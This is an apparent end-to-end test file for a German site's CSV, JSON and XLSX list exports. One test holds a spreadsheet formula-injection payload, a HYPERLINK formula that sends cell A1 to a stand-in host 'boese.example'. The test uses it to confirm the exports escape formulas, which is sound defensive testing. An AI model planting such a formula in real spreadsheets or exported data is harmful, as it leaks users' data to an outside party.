/** The list as a file: what a visitor downloads in each format is what the list shows, under the strict policy. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { buffer } from 'node:stream/consumers';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';

import { translate } from '#i18n/index.ts';
import { readCsv } from '#exports/csv.ts';
import type { ListCell, SolutionList } from '#exports/solution-list.ts';
import { urls } from '#site/urls.ts';
import { siteFolder } from '../build/sites.ts';
import { complete } from './catalogue-page.ts';
import { newPage, type WatchedPage } from './page.ts';

const sample = JSON.parse(
  readFileSync(path.join(siteFolder('sample'), urls.solutionList), 'utf8'),
) as SolutionList;
const column = (id: string): number => sample.columns.findIndex((one) => one.id === id);

interface ListPage extends WatchedPage {
  /** Ids of the solutions in the list, in order. */
  ids: string[];
}

/** The list of the solutions of the federal level; with another list to export from than the site's. */
async function openList(list: SolutionList = sample): Promise<ListPage> {
  const watched = await newPage({ site: 'sample' });
  if (list !== sample)
    await watched.page.route(`**${urls.solutionList}`, (route) => route.fulfill({ json: list }));
  await watched.open('/loesungen/#levels=federal');
  await watched.page.locator('[data-part="results"]:not([hidden]) [data-id]').first().waitFor();
  await complete(watched.page);
  const ids = await watched.page
    .locator('[data-part="results"] [data-id]')
    .evaluateAll((cards) => cards.map((card) => card.getAttribute('data-id')!));
  return { ...watched, ids };
}

interface Downloaded {
  name: string;
  bytes: Buffer;
  /** Bytes of the scripts that were loaded for it. */
  scripts: number;
}

async function download({ page }: WatchedPage, format: 'csv' | 'xlsx' | 'json'): Promise<Downloaded> {
  const sizes: Promise<number>[] = [];
  page.on('response', (response) => {
    if (response.url().endsWith('.js')) sizes.push(response.body().then(({ length }) => length));
  });
  const [file] = await Promise.all([
    page.waitForEvent('download', { timeout: 20_000 }),
    page.locator(`[data-export="${format}"]`).click(),
  ]);
  const scripts = (await Promise.all(sizes)).reduce((sum, size) => sum + size, 0);
  return { name: file.suggestedFilename(), bytes: await buffer(await file.createReadStream()), scripts };
}

describe('Liste als Datei', () => {
  it('als CSV: gewählte Zeilen in ihrer Reihenfolge, mit Umlauten und „keine Angabe“', async () => {
    const watched = await openList();
    const { name, bytes, scripts } = await download(watched, 'csv');
    expect(name).toBe('maki-loesungen-2026-11-23.csv');
    const [header, ...rows] = readCsv(new TextDecoder('utf-8', { fatal: true }).decode(bytes));
    expect(header).toEqual(sample.columns.map(({ label }) => label));
    expect(watched.ids).toHaveLength(13);
    expect(rows.map((row) => row[column('id')])).toEqual(watched.ids);
    expect(rows.map((row) => row[column('address')])).toEqual(
      watched.ids.map((id) => `https://ki.musterstadt.de/loesungen/${id}/`),
    );
    expect(header).toContain('Zuletzt geprüft');
    expect(rows[0]).toContain('keine Angabe');
    expect(rows.every((row) => row.length === header!.length && !row.includes(''))).toBe(true);
    expect(scripts).toBeLessThan(10_000);
    await nothingForbidden(watched);
  });

  it('als JSON: ein Objekt je Zeile, sortierte Schlüssel, null ohne Angabe, mit Quelle und Lizenz', async () => {
    const watched = await openList();
    const { name, bytes } = await download(watched, 'json');
    expect(name).toBe('maki-loesungen-2026-11-23.json');
    const text = bytes.toString('utf8');
    expect(text.endsWith('}\n')).toBe(true);
    const { about, solutions } = JSON.parse(text) as {
      about: object;
      solutions: Record<string, ListCell>[];
    };
    expect(about).toEqual({
      title: expect.stringContaining('Ebene: Bund'),
      address: `${new URL(watched.page.url()).origin}/loesungen/#levels=federal`,
      count: 13,
      date: '2026-11-23',
      licence: expect.stringContaining('https://www.govdata.de/dl-de/zero-2-0'),
      source: 'MaKI: Probe der Möglichkeiten, https://ki.musterstadt.de/',
    });
    expect(solutions.map(({ id }) => id)).toEqual(watched.ids);
    for (const solution of solutions) {
      expect(Object.keys(solution)).toEqual(sample.columns.map(({ id }) => id).sort());
      expect(solution['address']).toBe(`https://ki.musterstadt.de/loesungen/${String(solution['id'])}/`);
    }
    expect(solutions[0]!['licence']).toBeNull();
    await nothingForbidden(watched);
  });

  it('als XLSX: Kopf fett und fest, Tage als Tage, Zahlen als Zahlen, Texte als Texte', async () => {
    const watched = await openList();
    const { name, bytes, scripts } = await download(watched, 'xlsx');
    expect(name).toBe('maki-loesungen-2026-11-23.xlsx');
    const { rows, sheet, styles } = workbook(bytes);
    expect(rows[0]!.map(({ value }) => value)).toEqual(sample.columns.map(({ label }) => label));
    expect(rows.slice(1).map((row) => row[column('id')]!.value)).toEqual(watched.ids);
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(styles).toContain('dd.mm.yyyy');
    expect(styles).toContain('<b/>');
    for (const row of rows.slice(1)) {
      // Days of a spreadsheet count from 30 December 1899.
      expect(row[column('reviewed')]).toEqual({ type: 'number', value: 46327 });
      expect(row[column('deployments')]!.type).toBe('number');
      expect(row[column('title')]!.type).toBe('text');
    }
    expect(rows.flat().some(({ value }) => value === 'keine Angabe')).toBe(true);
    expect(scripts).toBeGreaterThan(20_000);
    await nothingForbidden(watched);
  });

  it('macht aus keinem Text eine Formel', async () => {
    const formula = '=HYPERLINK("https://boese.example/?x="&A1,"<b>ja</b>") Ü';
    const rows = sample.rows.map((row) => row.with(column('title'), formula));
    const watched = await openList({ ...sample, rows });
    const { bytes: csv } = await download(watched, 'csv');
    expect(csv.toString('utf8')).toContain(`"'${formula.replaceAll('"', '""')}"`);
    const { bytes: json } = await download(watched, 'json');
    expect((JSON.parse(json.toString('utf8')) as { solutions: object[] }).solutions[0]).toMatchObject({
      title: formula,
    });
    const { bytes: xlsx } = await download(watched, 'xlsx');
    const { rows: cells, sheet } = workbook(xlsx);
    expect(cells[1]![column('title')]).toEqual({ type: 'text', value: formula });
    expect(sheet).not.toContain('<f>');
  });

  it('packt auch große Listen, ohne dass die Richtlinie etwas aufhält', async () => {
    const rows = sample.rows.map((row, index) =>
      row.with(column('summary'), `${index} ${'ß'.repeat(20_000)}`),
    );
    const watched = await openList({ ...sample, rows });
    const { bytes } = await download(watched, 'xlsx');
    expect(workbook(bytes).rows).toHaveLength(14);
    await nothingForbidden(watched);
  });

  it('sagt es, wenn die Liste nicht zu laden ist', async () => {
    const { page } = await openList();
    await page.route(`**${urls.solutionList}`, (route) => route.abort());
    await page.locator('[data-export="csv"]').click();
    await page
      .locator('[data-part="tools"] [role="status"]', { hasText: translate('de')('list.export.failed') })
      .waitFor();
  });
});

async function nothingForbidden(watched: WatchedPage): Promise<void> {
  expect(watched).toMatchObject({ policyViolations: [], foreignRequests: [], consoleErrors: [] });
  await watched.close();
}

interface Cell {
  type: 'text' | 'number';
  value: string | number;
}

/** The first sheet of an XLSX file. */
function workbook(bytes: Buffer): { rows: Cell[][]; sheet: string; styles: string } {
  const files = unzipSync(bytes);
  const read = (name: string): string => strFromU8(files[name]!);
  const shared = [...read('xl/sharedStrings.xml').matchAll(/<si><t[^>]*>([^]*?)<\/t><\/si>/g)].map(
    ([, text]) => unescaped(text!),
  );
  const sheet = read('xl/worksheets/sheet1.xml');
  const rows = [...sheet.matchAll(/<row [^>]*>([^]*?)<\/row>/g)].map(([, row]) =>
    [...row!.matchAll(/<c ([^>]*)>(?:<v>([^<]*)<\/v>)?[^]*?<\/c>/g)].map(([, attributes, value]): Cell =>
      attributes!.includes('t="s"')
        ? { type: 'text', value: shared[Number(value)]! }
        : { type: 'number', value: Number(value) },
    ),
  );
  return { rows, sheet, styles: read('xl/styles.xml') };
}

function unescaped(text: string): string {
  return text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&');
}
